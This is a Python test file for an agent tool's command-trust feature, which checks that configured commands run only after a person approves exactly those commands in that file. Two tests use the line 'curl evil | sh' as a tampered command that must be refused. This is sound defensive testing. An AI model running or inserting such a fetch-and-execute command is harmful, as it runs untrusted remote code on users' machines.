# ruff: noqa: E501  (error texts stand on one line, as a person sees them)
"""Trust: exactly the commands a person agreed to, in exactly that file."""

import json
import os
import stat
import subprocess
import sys
from contextlib import ExitStack
from pathlib import Path

import pytest
from inline_snapshot import snapshot

import acp_agent
from acp_agent.config.commands import Command
from acp_agent.config.problem import FileError
from acp_agent.config.projects import load_projects
from acp_agent.config.trust import TrustedFile, require_trust, trust, trust_commands, trusted, untrust, untrusted
from acp_agent.config.trusted_files import commands_of, files_of
from acp_agent.domain.errors import ExitCode, Refused, UsageError

PROJECTS = """\
version = 1
[defaults]
setup = "make deps"
gates = ["test"]
[gates]
test = { run = "pytest -q" }
[projects.a]
path = "a"
"""


@pytest.fixture
def folder(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Path:
    here = tmp_path / "here"
    here.mkdir()
    monkeypatch.chdir(here)
    (here / "projects.toml").write_text(PROJECTS)
    return here


@pytest.fixture
def state(tmp_path: Path) -> Path:
    return tmp_path / "state"


def checked(file: Path, state: Path) -> None:
    require_trust(file, load_projects(file).commands(), state)


def refusal(file: Path, state: Path) -> tuple[str, str | None, ExitCode]:
    with pytest.raises(Refused) as error:
        checked(file, state)
    return error.value.what, error.value.hint, error.value.exit_code


def test_a_file_that_names_no_command_needs_no_trust(folder: Path, state: Path) -> None:
    file = folder / "projects.toml"
    file.write_text('version = 1\n[projects.a]\npath = "a"\n')
    checked(file, state)
    assert not state.exists()


def test_commands_run_only_after_trust_and_only_those(folder: Path, state: Path) -> None:
    file = folder / "projects.toml"
    before = refusal(file, state)
    assert trust(file, state) == [TrustedFile(file, ("defaults.setup", "gates.test"))]
    checked(file, state)
    file.write_text(PROJECTS.replace("pytest -q", "curl evil | sh") + 'setup = "npm ci"\n')
    assert (before, refusal(file, state)) == snapshot(
        (
            (
                "projects.toml: 2 commands are not trusted: defaults.setup 'make deps' (new), gates.test 'pytest -q' (new)",
                "read them, then: acp trust projects.toml",
                ExitCode.REFUSED,
            ),
            (
                "projects.toml: 2 commands are not trusted: gates.test 'curl evil | sh' (changed), projects.a.setup 'npm ci' (new)",
                "read them, then: acp trust projects.toml",
                ExitCode.REFUSED,
            ),
        )
    )
    trust(file, state)
    checked(file, state)


def test_the_refusal_is_one_line_whatever_the_commands_hold(folder: Path, state: Path) -> None:
    file = folder / "projects.toml"
    gates = "".join(f'g{number} = {{ run = "line\\n\\u001b[2Jtwo{"x" * 200}" }}\n' for number in range(6))
    file.write_text(f"version = 1\n[gates]\n{gates}")
    what, hint, _ = refusal(file, state)
    assert what.isprintable()
    assert what.startswith("projects.toml: 6 commands are not trusted: gates.g0 'line\\n\\x1b[2Jtwoxx")
    assert what.endswith("(new) (+3 more)")
    assert hint == "read them, then: acp trust projects.toml"


def test_a_command_that_moves_within_its_file_stays_trusted_and_elsewhere_it_is_not(folder: Path, state: Path) -> None:
    file = folder / "projects.toml"
    trust(file, state)
    file.write_text(PROJECTS.replace("test =", "check =").replace('["test"]', '["check"]'))
    checked(file, state)
    other = folder / "other.toml"
    other.write_text(PROJECTS)
    assert [why for _, why in untrusted(other, load_projects(other).commands(), state)] == ["new", "new"]


def test_a_symbolic_link_and_its_target_are_one_file(folder: Path, state: Path) -> None:
    trust(folder / "projects.toml", state)
    link = folder / "link.toml"
    link.symlink_to("projects.toml")
    assert untrusted(link, load_projects(link).commands(), state) == []


def test_what_is_trusted_is_what_was_shown_not_what_stands_there_later(folder: Path, state: Path) -> None:
    file = folder / "projects.toml"
    shown = load_projects(file).commands()
    file.write_text(PROJECTS.replace("pytest -q", "curl evil | sh"))
    trust_commands({file: shown}, state)
    assert untrusted(file, load_projects(file).commands(), state) == [
        (Command("gates.test", "curl evil | sh"), "changed")
    ]


def test_a_folder_stands_for_its_projects_its_loops_and_its_servers(folder: Path, state: Path) -> None:
    (folder / "loops").mkdir()
    (folder / "loops/perf.md").write_text(
        '+++\nproject = "a"\ndone_when = { run = "scripts/done.sh" }\n[metric.perf]\nrun = "measure"\n'
        '[on]\nnotify = ["cmd:notify-send x"]\n+++\nrun = "not me"\n'
    )
    (folder / "loops/other.toml").write_text('prompt = "x"\ngates = [{ name = "t", run = "make t" }]\n')
    (folder / "loops/plain.md").write_text("Only words.\n")
    (folder / "loops/notes.txt").write_text("no loop")
    server = {"command": "mcp", "args": ["x"], "env": {"A": "1"}}
    (folder / ".mcp.json").write_text(json.dumps({"mcpServers": {"s": server}}))
    assert [file.relative_to(folder).as_posix() for file in files_of(folder)] == [
        "projects.toml",
        "loops/other.toml",
        "loops/perf.md",
        "loops/plain.md",
        ".mcp.json",
    ]
    assert [(path.name, keys) for path, keys in trust(folder, state)] == [
        ("projects.toml", ("defaults.setup", "gates.test")),
        ("other.toml", ("gates[0].run",)),
        ("perf.md", ("done_when.run", "metric.perf.run", "on.notify[0]")),
        ("plain.md", ()),
        (".mcp.json", ("mcpServers.s",)),
    ]
    servers = folder / ".mcp.json"
    require_trust(servers, commands_of(servers), state)
    servers.write_text(json.dumps({"mcpServers": {"s": {**server, "args": ["y"]}}}))
    assert [why for _, why in untrusted(servers, commands_of(servers), state)] == ["changed"]
    assert len(trusted(state)) == 5
    assert len(untrust(folder / "loops", state)) == 3
    assert sorted(untrust(folder, state)) == [folder / ".mcp.json", folder / "projects.toml"]
    assert trusted(state) == []
    assert untrust(folder, state) == []


@pytest.mark.parametrize(
    ("name", "text", "expected"),
    [
        ("gone.toml", None, "gone.toml: no such file"),
        ("gone", None, "gone: no such file"),
        ("x.txt", "x", "x.txt: is no projects.toml, no loop, no .mcp.json and no SKILL.md"),
        ("loops/a.md", "+++\nx = 1\n", "loops/a.md:1: the front matter has no closing +++"),
        ("loops/a.md", "+++\n\nx =\n+++\n", "loops/a.md:3: broken TOML: Invalid value"),
        (".mcp.json", "{\n", ".mcp.json:2: broken JSON: Expecting property name enclosed in double quotes, column 1"),
        (".mcp.json", "[]", ".mcp.json: mcpServers: should be a table of servers"),
        ("empty/x", "", "empty: has no projects.toml, loops/, .mcp.json, skills or commands to trust"),
    ],
)
def test_what_cannot_be_trusted_is_told_and_stores_nothing(
    folder: Path, state: Path, name: str, text: str | None, expected: str
) -> None:
    path = folder / name
    if text is not None:
        path.parent.mkdir(exist_ok=True)
        path.write_text(text)
    with pytest.raises(UsageError) as error:
        trust(path.parent if name == "empty/x" else path, state)
    assert error.value.what == expected
    assert trusted(state) == []


def test_a_broken_file_in_a_folder_leaves_the_trust_of_the_others_as_it_was(folder: Path, state: Path) -> None:
    trust(folder / "projects.toml", state)
    stored = (state / "trust.json").read_text()
    (folder / "loops").mkdir()
    (folder / "loops/a.toml").write_text("x =")
    with pytest.raises(FileError):
        trust(folder, state)
    assert (state / "trust.json").read_text() == stored


def test_the_record_is_private_and_holds_no_command(folder: Path, state: Path) -> None:
    before = os.umask(0)
    try:
        trust(folder / "projects.toml", state)
    finally:
        os.umask(before)
    assert {path.name: stat.S_IMODE(path.stat().st_mode) for path in (state, *state.iterdir())} == {
        "state": 0o700,
        "trust.json": 0o600,
        "trust.lock": 0o600,
    }
    assert "pytest -q" not in (state / "trust.json").read_text()


@pytest.mark.parametrize(
    "text", ["", "{", "[]", '{"v": 2, "files": {}}', '{"v": 1, "files": {"a": []}}', "[" * 100_000]
)
def test_a_damaged_record_trusts_nothing_and_is_not_overwritten(folder: Path, state: Path, text: str) -> None:
    state.mkdir()
    (state / "trust.json").write_text(text)
    for act in (lambda: checked(folder / "projects.toml", state), lambda: trust(folder / "projects.toml", state)):
        with pytest.raises(UsageError, match="is not a list of trusted files") as error:
            act()
        assert "remove" in (error.value.hint or "")
    assert (state / "trust.json").read_text() == text


def test_a_state_directory_that_cannot_be_made_is_told(folder: Path) -> None:
    (folder / "file").touch()
    with pytest.raises(UsageError, match="cannot be written"):
        trust(folder / "projects.toml", folder / "file" / "state")


def test_writers_at_the_same_time_lose_nothing(folder: Path, state: Path) -> None:
    program = (
        "import sys; from pathlib import Path; from acp_agent.config.commands import Command\n"
        "from acp_agent.config.trust import trust_commands\n"
        "print('ready', flush=True); sys.stdin.readline()\n"
        "for number in range(25):\n"
        "    name = f'{sys.argv[2]}-{number}'\n"
        "    trust_commands({Path('/x') / name: [Command('gates.test', name)]}, Path(sys.argv[1]))\n"
    )
    here = Path(acp_agent.__file__).parents[1]
    pipe = subprocess.PIPE
    with ExitStack() as stack:
        writers = [
            stack.enter_context(
                subprocess.Popen(
                    [sys.executable, "-c", program, str(state), str(number)],
                    cwd=here,
                    stdin=pipe,
                    stdout=pipe,
                    text=True,
                )
            )
            for number in range(4)
        ]
        # They begin together, or the quick ones would be done before the last has started.
        assert [writer.stdout.readline() for writer in writers if writer.stdout] == ["ready\n"] * 4
        for writer in writers:
            assert writer.stdin
            writer.stdin.close()
    assert [writer.returncode for writer in writers] == [0, 0, 0, 0]
    expected = sorted(f"/x/{writer}-{number}" for writer in range(4) for number in range(25))
    assert [str(file.path) for file in trusted(state)] == expected
    assert sorted(path.name for path in state.iterdir()) == ["trust.json", "trust.lock"]
